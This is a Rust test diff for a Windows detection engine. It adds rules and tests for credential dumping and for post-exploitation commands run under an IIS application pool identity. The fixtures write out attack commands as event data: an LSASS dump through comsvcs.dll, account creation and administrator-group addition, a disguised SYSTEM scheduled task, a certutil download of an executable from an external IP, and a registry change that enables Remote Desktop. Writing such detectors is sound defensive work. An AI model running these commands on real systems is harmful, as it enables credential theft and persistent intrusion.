@@ -31,6 +31,11 @@ pub const BUNDLED: &[(&str, &str)] = &[
     ("proc_appcmd_logging_off.yml", include_str!("../rules/proc_appcmd_logging_off.yml")),
     ("proc_appcmd_module_install.yml", include_str!("../rules/proc_appcmd_module_install.yml")),
     ("proc_fltmc_filter_unload.yml", include_str!("../rules/proc_fltmc_filter_unload.yml")),
+    ("proc_credential_dump_lsass.yml", include_str!("../rules/proc_credential_dump_lsass.yml")),
+    (
+        "proc_pool_identity_post_exploitation.yml",
+        include_str!("../rules/proc_pool_identity_post_exploitation.yml"),
+    ),
     (
         "proc_pool_identity_creates_service.yml",
         include_str!("../rules/proc_pool_identity_creates_service.yml"),
@@ -744,6 +749,47 @@ mod tests {
                 ),
             ),
             (
+                "proc_credential_dump_lsass.yml",
+                sysmon(
+                    1,
+                    &[
+                        ("Image", "C:\\Windows\\System32\\rundll32.exe"),
+                        (
+                            "CommandLine",
+                            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 672 C:\\inetpub\\wwwroot\\t.bin full",
+                        ),
+                    ],
+                ),
+                // comsvcs.dll's other exports, as Windows runs them.
+                sysmon(
+                    1,
+                    &[
+                        ("Image", "C:\\Windows\\System32\\rundll32.exe"),
+                        ("CommandLine", "rundll32.exe comsvcs.dll,ComPlusInfo"),
+                    ],
+                ),
+            ),
+            (
+                "proc_pool_identity_post_exploitation.yml",
+                sysmon(
+                    1,
+                    &[
+                        ("Image", "C:\\Windows\\System32\\net.exe"),
+                        ("CommandLine", "net user svc_sql P@ssw0rd1 /add"),
+                        ("User", "IIS APPPOOL\\ShopPool"),
+                    ],
+                ),
+                // An administrator doing the same.
+                sysmon(
+                    1,
+                    &[
+                        ("Image", "C:\\Windows\\System32\\net.exe"),
+                        ("CommandLine", "net user svc_sql P@ssw0rd1 /add"),
+                        ("User", "CONTOSO\\adm-jdoe"),
+                    ],
+                ),
+            ),
+            (
                 "file_w3wp_writes_script.yml",
                 sysmon(11, &[("Image", W3WP), ("TargetFilename", "C:\\inetpub\\wwwroot\\uploads\\x.aspx")]),
                 // An upload saved, its name ending otherwise.
@@ -1307,6 +1353,80 @@ mod tests {
             assert!(fired(e, fires).iter().any(|f| f == rule), "{rule} must fire");
             assert!(!fired(e, quiet).iter().any(|f| f == rule), "{rule} must not fire on its look-alike");
         }
+    }
+
+    /// What a web shell does next, run as the pool's identity (Sysmon's
+    /// User, Security's SubjectDomainName) or started by the worker, each
+    /// its own rule; the same commands an administrator runs are none.
+    #[test]
+    fn a_pools_post_exploitation_commands_fire_and_an_administrators_do_not() {
+        let e = engine();
+        let titles = |view: View| -> Vec<String> {
+            matched(&e, &view)
+                .iter()
+                .map(|r| r.meta.title.clone())
+                .filter(|t| t.starts_with("IIS Worker Or Its Pool"))
+                .collect()
+        };
+        let as_pool = |image: &str, command: &str| {
+            sysmon(1, &[("Image", image), ("CommandLine", command), ("User", "IIS APPPOOL\\ShopPool")])
+        };
+        let as_admin = |image: &str, command: &str| {
+            sysmon(1, &[("Image", image), ("CommandLine", command), ("User", "CONTOSO\\adm-jdoe")])
+        };
+        let audited = |image: &str, command: &str| {
+            event(
+                "Security",
+                "Microsoft-Windows-Security-Auditing",
+                4688,
+                &[("NewProcessName", image), ("CommandLine", command), ("SubjectDomainName", "IIS APPPOOL")],
+            )
+        };
+        let net = "C:\\Windows\\System32\\net.exe";
+        let schtasks = "C:\\Windows\\System32\\schtasks.exe";
+        let certutil = "C:\\Windows\\System32\\certutil.exe";
+        let reg = "C:\\Windows\\System32\\reg.exe";
+        let cases = [
+            (
+                net,
+                "net localgroup administrators svc_sql /add",
+                "IIS Worker Or Its Pool Identity Creates An Account Or Adds An Administrator",
+            ),
+            (
+                schtasks,
+                "schtasks /create /tn \\Microsoft\\Windows\\WDI\\SrvHostUpd /ru SYSTEM /sc minute /tr x.exe",
+                "IIS Worker Or Its Pool Identity Schedules A Task",
+            ),
+            (
+                certutil,
+                "certutil -urlcache -split -f http://45.133.1.77/u.exe C:\\ProgramData\\u.exe",
+                "IIS Worker Or Its Pool Identity Downloads A File With A Windows Tool",
+            ),
+            (
+                reg,
+                "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
+                "IIS Worker Or Its Pool Identity Enables Remote Desktop",
+            ),
+        ];
+        for (image, command, title) in cases {
+            assert_eq!(titles(as_pool(image, command)), [title], "{command}");
+            assert_eq!(titles(audited(image, command)), [title], "{command} (4688)");
+            assert_eq!(
+                titles(as_admin(image, command)),
+                Vec::<String>::new(),
+                "{command} by an administrator"
+            );
+        }
+        let worker_child =
+            sysmon(1, &[("Image", net), ("CommandLine", "net user x /add"), ("ParentImage", W3WP)]);
+        assert_eq!(
+            titles(worker_child),
+            ["IIS Worker Or Its Pool Identity Creates An Account Or Adds An Administrator"]
+        );
+        // Listing accounts and tasks is reconnaissance, the shell rules' part.
+        assert_eq!(titles(as_pool(net, "net user")), Vec::<String>::new());
+        assert_eq!(titles(as_pool(schtasks, "schtasks /query /fo LIST")), Vec::<String>::new());
+        assert_eq!(titles(as_pool(certutil, "certutil -hashfile x.exe SHA256")), Vec::<String>::new());
     }
 
     /// The level of the bundled correlation titled `title`.
